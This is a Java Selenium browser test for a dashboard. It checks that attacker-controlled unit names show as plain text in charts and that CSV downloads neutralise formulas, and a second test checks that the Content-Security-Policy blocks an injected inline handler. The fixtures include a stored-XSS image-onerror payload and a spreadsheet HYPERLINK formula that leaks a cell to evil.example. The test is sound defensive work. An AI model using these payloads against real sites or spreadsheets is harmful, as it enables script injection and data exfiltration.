package com.perfdash.browser;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.perfdash.ingest.DataFormat;
import com.perfdash.ingest.FileSpec;
import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Comparator;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.openqa.selenium.By;
import org.openqa.selenium.NoAlertPresentException;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.interactions.Actions;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Unit names are data from outside (a units.csv of an import or a data folder), and charts show them as
 * text: a data set whose units are named like a stored XSS and like a spreadsheet formula is loaded, and
 * /compare opened as a finance reviewer draws both names as text in the legend, the tooltips and the axis,
 * runs no script, and its "下载 CSV" writes the names as text cells. The page's Content-Security-Policy
 * refuses inline event handlers even where markup gets into the page.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {"perfdash.db.path=:memory:", "perfdash.data.watch=false", "perfdash.import.dir=${perfdash.test.dir:target}/no-imports",
                "perfdash.data.dir=target/chart-text-data", "perfdash.demo-review=false"})
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ChartTextBrowserTest {

    static final String XSS = "<img src=x onerror=alert(9)>青禾区卫生健康局";
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"青禾区民政局\")";
    private static final Path DATA = Path.of("target", "chart-text-data");
    private static final Duration TIMEOUT = Duration.ofSeconds(60);

    static {
        // before the app starts: the demo district, two of its units renamed as an attacker would
        try {
            if (Files.exists(DATA)) {
                try (Stream<Path> files = Files.walk(DATA)) {
                    files.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
                }
            }
            Path set = Files.createDirectories(DATA.resolve("demo"));
            // the data format's files only: a manifest of the shipped set would not match the renamed units
            for (FileSpec spec : DataFormat.FILES) {
                String text = Files.readString(Path.of("data", "demo", spec.fileName()), StandardCharsets.UTF_8);
                if (spec == DataFormat.UNITS) {
                    text = text.replace("qh-weijian,青禾区卫生健康局,", "qh-weijian,\"" + XSS + "\",")
                            .replace("qh-minzheng,青禾区民政局,", "qh-minzheng,\"" + FORMULA.replace("\"", "\"\"") + "\",");
                }
                Files.writeString(set.resolve(spec.fileName()), text, StandardCharsets.UTF_8);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @LocalServerPort
    int port;

    private Chromium chromium;
    private ChromeDriver driver;

    @BeforeAll
    void startBrowser() {
        assumeTrue(Chromium.installed(), "Chromium and chromedriver are not installed");
        chromium = Chromium.shared();
        driver = chromium.driver();
    }


    private String url(String route) {
        return "http://localhost:" + port + "/" + route;
    }

    private WebDriverWait await() {
        return new WebDriverWait(driver, TIMEOUT, Duration.ofMillis(50));
    }

    private void signIn(String user, String password) {
        driver.manage().deleteAllCookies();
        driver.get(url("login"));
        WebElement name = await().until(d -> "login".equals(driver.executeScript(
                "const f = document.querySelector('vaadin-login-form'); return f && customElements.get('vaadin-login-form') ? f.action : null;"))
                ? d.findElements(By.cssSelector("vaadin-login-form input[name='username']")).stream().findFirst().orElse(null) : null);
        name.sendKeys(user);
        driver.findElement(By.cssSelector("vaadin-login-form input[name='password']")).sendKeys(password);
        driver.findElement(By.cssSelector("vaadin-login-form vaadin-button")).click();
        await().until(d -> !d.getCurrentUrl().contains("/login"));
    }

    /** The chart elements once each has drawn its series (ApexCharts' SVG paths are in the page). */
    private List<WebElement> drawnCharts(int count) {
        return await().until(d -> {
            List<WebElement> charts = d.findElements(By.cssSelector("perf-apexchart"));
            boolean drawn = charts.size() == count && charts.stream()
                    .allMatch(c -> !c.findElements(By.cssSelector(".apexcharts-canvas svg path")).isEmpty());
            return drawn ? charts : null;
        });
    }

    /** Empties the download folder, clicks, and returns the CSV file the browser saved. */
    private Path downloadCsv(Runnable click) throws IOException {
        try (Stream<Path> old = Files.list(Chromium.DOWNLOADS)) {
            for (Path p : old.toList()) {
                Files.delete(p);
            }
        }
        click.run();
        return await().until(d -> {
            try (Stream<Path> files = Files.list(Chromium.DOWNLOADS)) {
                return files.filter(p -> p.getFileName().toString().endsWith(".csv")).findFirst().orElse(null);
            } catch (IOException e) {
                return null;
            }
        });
    }

    private static List<CSVRecord> records(Path file) throws IOException {
        byte[] bytes = Files.readAllBytes(file);
        assertThat(bytes[0]).isEqualTo((byte) 0xEF);
        return CSVFormat.DEFAULT.parse(new StringReader(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8))).getRecords();
    }

    private void assertNoAlertAndNoInjectedImage() {
        assertThatThrownBy(() -> driver.switchTo().alert()).isInstanceOf(NoAlertPresentException.class);
        assertThat(driver.findElements(By.cssSelector("perf-apexchart img"))).isEmpty();
        assertThat(driver.executeScript("return document.querySelectorAll('img[src=\"x\"]').length")).isEqualTo(0L);
    }

    @Test
    void compare_shows_an_xss_unit_name_as_text_in_legend_tooltips_and_axis_and_its_csv_keeps_formulas_text() throws IOException {
        signIn("finance", "finance-demo");
        chromium.severeConsoleEntries();
        driver.get(url("compare?metric=executionRate&units=qh-weijian,qh-minzheng"));
        List<WebElement> charts = drawnCharts(2);
        WebElement heatmap = charts.stream().filter(c -> !c.findElements(By.cssSelector(".apexcharts-heatmap")).isEmpty())
                .findFirst().orElseThrow();
        WebElement lines = charts.stream().filter(c -> c != heatmap).findFirst().orElseThrow();

        // the legend (HTML in ApexCharts) of the lines: the names as text
        List<String> legend = lines.findElements(By.cssSelector(".apexcharts-legend-text")).stream().map(WebElement::getText).toList();
        assertThat(legend).containsExactly(XSS, FORMULA);
        assertNoAlertAndNoInjectedImage();

        // the lines' shared tooltip (HTML): the series names as text
        driver.executeScript("arguments[0].scrollIntoView({block: 'center'})", lines);
        WebElement plot = lines.findElement(By.cssSelector(".apexcharts-grid"));
        new Actions(driver).moveToElement(plot).pause(Duration.ofMillis(300)).moveByOffset(5, 0).perform();
        WebElement tooltip = await().until(d -> lines.findElements(By.cssSelector(".apexcharts-tooltip.apexcharts-active")).stream()
                .findFirst().orElse(null));
        List<String> labels = tooltip.findElements(By.cssSelector(".apexcharts-tooltip-text-y-label")).stream()
                .map(WebElement::getText).toList();
        assertThat(labels).contains(XSS + ":", FORMULA + ":");
        assertNoAlertAndNoInjectedImage();

        // the heatmap: its row label (SVG text) and a cell's tooltip (HTML)
        driver.executeScript("arguments[0].scrollIntoView({block: 'center'})", heatmap);
        // (a long label is cut short on the axis; its SVG title holds it whole)
        @SuppressWarnings("unchecked")
        List<String> rowLabels = (List<String>) driver.executeScript(
                "return [...arguments[0].querySelectorAll('.apexcharts-yaxis-label title')].map(t => t.textContent);", heatmap);
        assertThat(rowLabels).contains(XSS, FORMULA);
        Long row = (Long) driver.executeScript(
                "return JSON.parse(arguments[0].options).series.findIndex(s => s.name === arguments[1]);", heatmap, XSS);
        WebElement cell = heatmap.findElement(By.cssSelector("g.apexcharts-heatmap-series[data\\:realIndex='" + row + "'] rect"));
        new Actions(driver).moveToElement(cell).pause(Duration.ofMillis(300)).moveByOffset(1, 1).perform();
        WebElement cellTip = await().until(d -> heatmap.findElements(By.cssSelector(".apexcharts-tooltip.apexcharts-active")).stream()
                .findFirst().orElse(null));
        assertThat(cellTip.getText()).contains(XSS);
        assertNoAlertAndNoInjectedImage();
        assertThat(chromium.severeConsoleEntries()).as("console errors on /compare").isEmpty();

        // the lines' "下载 CSV": the server's file, the names as text cells
        WebElement menu = lines.findElement(By.cssSelector(".apexcharts-menu-icon"));
        driver.executeScript("arguments[0].scrollIntoView({block: 'center'})", menu);
        Path file = downloadCsv(() -> {
            new Actions(driver).moveToElement(menu).pause(Duration.ofMillis(200)).click().perform();
            await().until(d -> lines.findElements(By.cssSelector(".apexcharts-menu-item.exportCSV")).stream()
                    .filter(WebElement::isDisplayed).findFirst().orElse(null)).click();
        });
        assertThat(file.getFileName().toString()).matches("\\d{4}-\\d{4}年度.*\\.csv");
        List<CSVRecord> rows = records(file);
        assertThat(rows.get(0).toList()).containsExactly("年度", XSS, "'" + FORMULA);
        assertThat(rows.get(1).get(1)).matches("\\d+\\.\\d%|");

        // the ranking grid's CSV: the same rule for the grid's download
        WebElement gridCsv = driver.findElement(By.cssSelector(".grid-download-csv"));
        driver.executeScript("arguments[0].scrollIntoView({block: 'center'})", gridCsv);
        List<CSVRecord> ranking = records(downloadCsv(gridCsv::click));
        assertThat(ranking.stream().map(r -> r.toList().toString()))
                .anyMatch(r -> r.contains("'" + FORMULA)).anyMatch(r -> r.contains(XSS)).noneMatch(r -> r.contains(", " + FORMULA));
        assertThat(chromium.severeConsoleEntries()).as("console errors after the downloads").isEmpty();
    }

    @Test
    void the_content_security_policy_refuses_an_inline_event_handler_that_got_into_the_page() {
        signIn("finance", "finance-demo");
        driver.get(url("compare"));
        drawnCharts(2);
        chromium.severeConsoleEntries();
        driver.executeScript("const d = document.createElement('div');"
                + "d.innerHTML = '<img src=\"x\" onerror=\"window.__handlerRan = true\">';"
                + "document.body.appendChild(d);");
        // the image's request fails (no such file) and its handler is refused
        List<String> console = new java.util.ArrayList<>();
        await().until(d -> {
            console.addAll(chromium.severeConsoleEntries());
            return console.stream().anyMatch(m -> m.contains("Content Security Policy"))
                    && console.stream().anyMatch(m -> m.contains("/x "));
        });
        assertThat(console).anyMatch(m -> m.contains("inline event handler") && m.contains("Content Security Policy"));
        assertThat(driver.executeScript("return window.__handlerRan === true")).isEqualTo(false);
    }
}
